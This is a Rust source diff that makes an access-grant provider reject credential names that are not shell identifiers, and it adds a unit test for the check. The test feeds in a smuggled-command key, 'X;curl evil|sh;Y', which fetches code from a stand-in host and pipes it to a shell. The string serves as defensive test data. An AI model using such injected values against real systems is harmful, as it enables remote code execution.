@@ -231,6 +231,13 @@ impl ExecProvider {
         let credentials = match object.get("credentials") {
             None | Some(serde_json::Value::Null) => None,
             Some(serde_json::Value::Object(map)) if !map.is_empty() => {
+                if let Some(bad) = map.keys().find(|k| !super::is_shell_identifier(k)) {
+                    // Never echo the value; the name is what is wrong.
+                    return Err(ProviderError::Fatal(format!(
+                        "`{program}`: credential name {:?} is not a shell variable name ([A-Za-z_][A-Za-z0-9_]*)",
+                        bad.chars().take(80).collect::<String>()
+                    )));
+                }
                 Some(Credentials::from_json_object(map))
             }
             Some(serde_json::Value::Object(_)) => None,
@@ -303,5 +310,61 @@ impl Provider for ExecProvider {
     /// `exec:<resource>:<requester>`: the handle of a grant whose command printed none.
     fn presumed_handle(&self, spec: &GrantSpec) -> String {
         format!("exec:{}:{}", self.resource, spec.requester.key())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::domain::duration::GrantDuration;
+    use crate::domain::ids::{RequestId, SlackUserId};
+    use crate::domain::policy::Requester;
+
+    fn provider() -> ExecProvider {
+        ExecProvider::new(
+            ResourceId::parse("x").unwrap(),
+            ExecConfig {
+                grant_command: vec!["true".into()],
+                revoke_command: vec!["true".into()],
+                timeout: GrantDuration::from_secs(5),
+                parameters: json!({}),
+                env: Vec::new(),
+            },
+        )
+    }
+
+    fn spec() -> GrantSpec {
+        let now = chrono::Utc::now();
+        GrantSpec {
+            request_id: RequestId(1),
+            requester: Requester::User(SlackUserId::parse("U0DEV").unwrap()),
+            requester_email: None,
+            resource: ResourceId::parse("x").unwrap(),
+            expires_at: now,
+            now,
+        }
+    }
+
+    /// Credential names become shell variable names downstream: anything else is refused,
+    /// as a failure that may have acted (so the grant is revoked), without echoing the value.
+    #[test]
+    fn credential_names_must_be_shell_identifiers() {
+        let p = provider();
+        let ok = p
+            .parse_issued(&spec(), br#"{"credentials": {"DB_PASSWORD": "s"}}"#)
+            .unwrap();
+        assert_eq!(ok.credentials.unwrap().names(), ["DB_PASSWORD"]);
+        let err = p
+            .parse_issued(
+                &spec(),
+                br#"{"credentials": {"X;curl evil|sh;Y": "topsecret"}}"#,
+            )
+            .unwrap_err();
+        assert!(err.may_have_acted());
+        assert!(
+            err.to_string().contains("not a shell variable name"),
+            "{err}"
+        );
+        assert!(!err.to_string().contains("topsecret"));
     }
 }
